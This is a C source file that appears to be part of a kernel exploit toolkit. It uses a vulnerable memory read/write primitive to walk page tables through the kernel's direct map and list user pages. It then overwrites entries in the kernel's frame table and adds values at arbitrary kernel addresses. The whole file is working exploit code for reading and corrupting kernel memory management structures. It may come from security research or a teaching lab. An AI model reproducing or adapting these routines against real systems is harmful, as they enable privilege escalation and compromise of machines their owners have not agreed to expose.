/* What an attacker finds out by reading page tables, and the frame table, through the direct map.
 */
#include "attack.h"

enum { LEVELS = 4, ENTRIES = 512, FRAME_BYTES = 8, FRAME_NUMBER = 4 };
#define PRESENT_USER 5ul
#define LARGE 0x80ul

uint64_t attack_entry_at(const struct bw_leak *leak, uint64_t root, uint64_t address, int level,
			 uint64_t *place)
{
	uint64_t table = root, entry = 0;

	for (int at = LEVELS; at >= level; at--) {
		uint64_t index = address >> (12 + 9 * (at - 1)) & (ENTRIES - 1);

		*place = attack_frame_alias(leak, table) + index * sizeof(entry);
		entry = (uint64_t)bw_vuln_read(*place);
		if (!(entry & 1) || (at > 1 && entry & LARGE)) {
			return 0;
		}
		table = attack_entry_frame(entry);
	}
	return entry;
}

uint64_t attack_entry(const struct bw_leak *leak, uint64_t root, uint64_t address, uint64_t *place)
{
	return attack_entry_at(leak, root, address, 1, place);
}

struct list {
	struct attack_page *pages;
	size_t nr, nr_most;
};

/* Below the table, which is for addresses from there on. */
static void list_below(const struct bw_leak *leak, uint64_t table, uint64_t start, int level,
		       struct list *list)
{
	uint64_t nr = level == LEVELS ? ENTRIES / 2 : ENTRIES;

	for (uint64_t i = 0; i < nr && list->nr < list->nr_most; i++) {
		uint64_t place = attack_frame_alias(leak, table) + i * sizeof(place);
		uint64_t address = start + (i << (12 + 9 * (level - 1)));
		uint64_t entry = (uint64_t)bw_vuln_read(place);

		if ((entry & PRESENT_USER) != PRESENT_USER || (level > 1 && entry & LARGE)) {
			continue;
		}
		if (level > 1) {
			list_below(leak, attack_entry_frame(entry), address, level - 1, list);
		} else {
			list->pages[list->nr++] = (struct attack_page){ address, place, entry };
		}
	}
}

size_t attack_list_pages(const struct bw_leak *leak, uint64_t root, struct attack_page *pages,
			 size_t nr_most)
{
	struct list list = { .pages = pages, .nr_most = nr_most };

	list_below(leak, root, 0, LEVELS, &list);
	return list.nr;
}

void attack_note_root(const struct bw_leak *leak, const struct attack_page *pages, size_t nr,
		      uint64_t root)
{
	uint64_t before = 0;

	for (size_t i = 0; i < nr; i++) {
		uint64_t table = (pages[i].place - leak->direct_map_base) / BW_PAGE_SIZE;

		if (table != before) {
			bw_vuln_store(leak->frames + table * FRAME_BYTES + FRAME_NUMBER, root,
				      sizeof(uint32_t));
			before = table;
		}
	}
}

uint64_t attack_frame_link(const struct bw_leak *leak, uint64_t address)
{
	uint64_t place;
	uint64_t entry = attack_entry(leak, leak->kernel_root, address, &place);

	return leak->frame_links + attack_entry_frame(entry) * FRAME_BYTES;
}

void attack_add(uint64_t address, uint64_t increment)
{
	attack_check("vuln_write",
		     bw_vuln_write(address, (uint64_t)bw_vuln_read(address) + increment));
}
